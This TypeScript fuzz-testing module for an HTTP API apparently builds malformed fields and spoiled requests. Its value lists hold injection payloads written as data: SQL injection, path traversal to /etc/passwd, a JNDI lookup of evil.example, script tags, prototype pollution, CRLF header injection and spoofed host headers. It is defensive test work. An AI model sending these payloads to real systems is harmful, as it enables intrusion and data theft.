import { deflateRawSync } from 'node:zlib'
import type { HttpRequest } from '#infra/local/server.ts'
import type { Endpoint } from '#shared/kernel/endpoint.ts'
import type { Random } from '#tests/simulation/random.ts'
import { type Input, parts, withAt } from './sample.ts'

const nested = (depth: number): unknown => (depth === 0 ? 1 : [nested(depth - 1)])
const prototype = { ['__proto__']: { role: 'SUPERVISOR', user_id: 'usr_other' } }

const values: readonly unknown[] = [
  undefined, null, true, false, 0, -0, -1, 1.5, 7, 1e308, 2 ** 53, -(2 ** 53), [], {}, [null], [[]], prototype, { toString: 1, length: -1 }, { $ne: null }, nested(8), nested(9), nested(40),
  '', ' ', '\t\n', 'null', 'undefined', 'true', 'NaN', 'Infinity', '-Infinity', '-1', '+1', '1.5', '1e3', '0x10', '00000001', '٣', '9999999', '99999999', '9'.repeat(400),
  '\u0000', 'a\u0000b', '\ud800', 'x\udfffx', '\u202eevil', '\ufeff', '😀'.repeat(20), 'é'.normalize('NFD'), 'ﷺ'.repeat(70), '\u007f\u001b[31m', 'line\r\nset-cookie: a=b',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'current', '../../etc/passwd', '..%2f..', 'C:\\boot.ini', "' OR 1=1--", '${jndi:ldap://evil.example}', '<script>alert(1)</script>', '{{7*7}}', 'session#x', 'a#b',
  'x'.repeat(63), 'x'.repeat(64), 'x'.repeat(65), 'x'.repeat(600), 'x'.repeat(601), 'x'.repeat(4_097), 'x'.repeat(20_000),
]

export const texts: readonly string[] = [
  '', ' ', '{', '}', '[', '[]', 'null', 'true', '7', '-', '"', '"text"', '{}{}', '{"a":1,}', "{'a':1}", '{a:1}', 'NaN', '{"a":NaN}', '{"a":1e999}', '{"a":-1e999}', '{"a":00}', '{"a":"\\ud800"}', '{"a":"\\x"}', '{"a":"\u0001"}',
  '\ufeff{}', '{"__proto__":{"a":1}}', '{"then":1,"toJSON":1}', '{"constructor":{"prototype":{"a":1}}}', '{"a":1,"a":2}', '/* */{}', '{}//', `{"a":${'['.repeat(9)}${']'.repeat(9)}}`, '['.repeat(30_000), `${'['.repeat(30_000)}${']'.repeat(30_000)}`, `${'{"a":'.repeat(9_000)}1${'}'.repeat(9_000)}`,
  `[${'0,'.repeat(30_000)}0]`, `{${Array.from({ length: 4_000 }, (_, place) => `"${place}":0`).join(',')}}`, `"${'x'.repeat(60_000)}"`, `{"a":${'9'.repeat(60_000)}}`, 'a=b&c=d', '<xml/>', '\u0000',
]

const types: readonly string[] = ['', 'text/plain', 'text/plain;application/json', 'application/xml', 'application/json; charset=utf-16', 'APPLICATION/JSON', 'application/json;', ';', 'application/jsonp', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json, text/plain', 'application/octet-stream', '\u0000']

const keys: readonly string[] = ['', 'short', 'x'.repeat(128), 'x'.repeat(129), 'x'.repeat(9_000), '../../../../x', 'ключ-ключ', '__proto__', 'constructor', 'a b c d e f', 'one-key-1,one-key-2', '\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000']

const headers = (random: Random): Record<string, string> => ({
  ...(random.happens(0.6) && { 'idempotency-key': random.pick(keys) }),
  ...(random.happens(0.4) && { 'x-correlation-id': random.pick([...keys, 'line\r\n{"level":"error"}', 'thread-of-mine']) }),
  ...(random.happens(0.2) && { 'x-client-address': '10.0.0.1', 'x-forwarded-for': '127.0.0.1', 'x-origin-proof': 'guess' }),
  ...(random.happens(0.2) && { host: 'evil.example', origin: 'https://evil.example', 'x-forwarded-host': 'evil.example', 'x-http-method-override': 'DELETE' }),
  ...(random.happens(0.2) && { cookie: '; ;=;token=x; __proto__=1', 'if-none-match': '*', accept: 'application/xml', 'content-encoding': 'gzip', 'accept-language': 'x'.repeat(5_000) }),
  ...(random.happens(0.1) && { ['__proto__']: 'x', constructor: 'x', 'content-length': '-1' }),
})

/** `undefined` among them: a field that is missing. */
const anything = (random: Random) => values[random.whole(0, values.length - 1)]

/** Every place of an input, the parts themselves included. */
function placesOf(input: unknown, at = ''): string[] {
  if (typeof input !== 'object' || input === null || Array.isArray(input)) return []
  return Object.entries(input).flatMap(([name, value]) => {
    const place = at === '' ? name : `${at}.${name}`
    return value === undefined && at === '' ? [] : [place, ...placesOf(value, place)]
  })
}

function valueAt(input: unknown, place: string): unknown {
  return place.split('.').reduce<unknown>((value, name) => (value as Record<string, unknown> | undefined)?.[name], input)
}

/** Changes one field into something that it should not be, or adds one that nobody asked for. */
export function withOneWrong(input: Input, random: Random): Input {
  const places = placesOf(input)
  if (places.length === 0) return input
  const place = random.pick(places)
  if (random.happens(0.1)) return withAt(input, `${place.split('.')[0] ?? ''}.${random.pick(['__proto__', 'constructor', 'role', 'user_id', 'userId', 'price_per_share'])}`, anything(random)) as Input
  return withAt(input, place, random.happens(0.25) ? nearly(valueAt(input, place), random) : anything(random)) as Input
}

/** Off by one, or in the wrong wrapping. */
function nearly(value: unknown, random: Random): unknown {
  if (typeof value === 'number') return random.pick([value + 1, value - 1, -value, value + 0.5, String(value)])
  if (typeof value !== 'string') return random.pick([[value], JSON.stringify(value) ?? '', { value }])
  return random.pick([`${value}x`, `${value} `, ` ${value}`, value.slice(0, -1), value.toUpperCase(), value.toLowerCase(), `${value}\n`, `${value}${value}`, `${value},${value}`, value.padEnd(64, '0'), value.padEnd(65, '0'), [value], { value }, Number(value)])
}

/** Spoils a request on its way: its text, type, encoding, size, address, headers. */
export function spoiled(request: HttpRequest, endpoint: Endpoint, random: Random): HttpRequest {
  const { target, body = new Uint8Array() } = request
  const told = (more: Record<string, string>) => ({ ...request.headers, ...more })
  const right = endpoint.encoding === 'form' ? 'application/x-www-form-urlencoded' : 'application/json'
  const query = (text: string) => `${target}${target.includes('?') ? '&' : '?'}${text}`
  const name = /[?&]([^=&]+)=/.exec(target)?.[1] ?? random.pick(parts)
  const ways: readonly (() => HttpRequest)[] = [
    () => ({ ...request, headers: told({ 'content-type': right }), body: Buffer.from(random.pick(texts)) }),
    () => ({ ...request, headers: told({ 'content-type': random.pick(types) }) }),
    () => ({ ...request, body: random.pick([Buffer.from(Buffer.from(body).toString(), 'utf16le'), Uint8Array.from([0xff, 0xfe, ...body]), Uint8Array.from([0xc3, 0x28, ...body]), deflateRawSync(body), Buffer.concat([body, Uint8Array.from([0])])]) }),
    () => ({ ...request, body: Buffer.concat([body, Buffer.alloc(random.pick([65_536 - body.length, 65_537 - body.length, 300_000]), ' ')]) }),
    () => ({ ...request, target: query(random.pick([`${name}=again`, `${name}=`, name, `${name}[]=1`, `${name}[a]=1`, `${name}.a=1`, '&&', '=', '=x', '__proto__=1', 'constructor=1', `a=${'x'.repeat(8_000)}`, Array(500).fill('a=1').join('&')])) }),
    () => ({ ...request, target: random.pick([`${target}%`, `${target}%zz`, `${target}%c3%28`, `${target}%ff`, `${target}%00`, `${target}/`, `${target}//`, `${target}/..`, target.replace('/api/', '/api//'), target.replace('/api/', '/api/%2e%2e/'), `${target}?`, `${target}#x`, `/api${target.slice(4).toUpperCase()}`]) }),
    () => ({ ...request, method: random.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'x', '__proto__']) }),
    () => ({ ...request, headers: told(headers(random)) }),
  ]
  return random.pick(ways)()
}
